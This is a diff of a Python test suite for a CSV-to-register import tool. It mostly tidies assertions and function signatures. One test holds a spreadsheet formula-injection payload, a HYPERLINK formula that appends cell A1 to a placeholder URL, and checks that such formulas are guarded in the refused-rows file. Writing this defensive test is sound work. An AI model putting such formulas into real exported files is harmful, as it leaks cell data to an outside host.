@@ -95,7 +95,7 @@ def test_a_rehearsal_keeps_nothing_and_writes_no_file(register: Path, tmp_path: 
     assert (done.read, done.accepted, done.refused) == (2, 2 - bool(bad), int(bool(bad)))
     assert (done.stored, done.batch, done.refused_file) == (False, None, None)
     assert register.read_bytes() == before
-    assert sorted(tmp_path.iterdir()) == sorted({*beside, register.with_name("register.db-journal")} & set(tmp_path.iterdir()))
+    assert [path for path in sorted(tmp_path.iterdir()) if not path.name.endswith("-journal")] == beside
 
 
 def test_the_same_file_again_changes_nothing(register: Path, tmp_path: Path) -> None:
@@ -259,7 +259,7 @@ def test_a_respondent_without_number_is_known_by_name_and_unit(register: Path, t
     ],
 )  # fmt: skip
 def test_rows_of_one_number_must_agree(
-    register: Path, tmp_path: Path, batches_of: Batches, size: int, column: str, value: str
+    register: Path, tmp_path: Path, batches_of: Batches, *, size: int, column: str, value: str
 ) -> None:
     batches_of(size)
     colleague = {"nip": nip(5), "nama_terlapor": "Rekan"}
@@ -388,7 +388,7 @@ def test_nothing_is_stored_when_the_refused_rows_cannot_be_written(register: Pat
 
 
 def test_formulas_are_guarded_there_and_read_back_as_they_were(register: Path, tmp_path: Path) -> None:
-    formula = "=HYPERLINK(\"http://x/?\"&A1)"
+    formula = '=HYPERLINK("http://x/?"&A1)'
     done = take(register, write(tmp_path / "kiriman.csv", row(1, uraian=formula, **BAD)))
     assert done.refused_file is not None
     (cells,) = refused_rows(done.refused_file)
@@ -413,7 +413,7 @@ def test_formulas_are_guarded_there_and_read_back_as_they_were(register: Path, t
     ],
 )
 def test_encodings_and_delimiters(
-    register: Path, tmp_path: Path, encoding: str, delimiter: str, first: str, read_as: str
+    register: Path, tmp_path: Path, *, encoding: str, delimiter: str, first: str, read_as: str
 ) -> None:
     file = tmp_path / "in.csv"
     file.write_bytes((first + csv_text([row(1, nama_terlapor="José Contoh")], delimiter=delimiter)).encode(encoding))
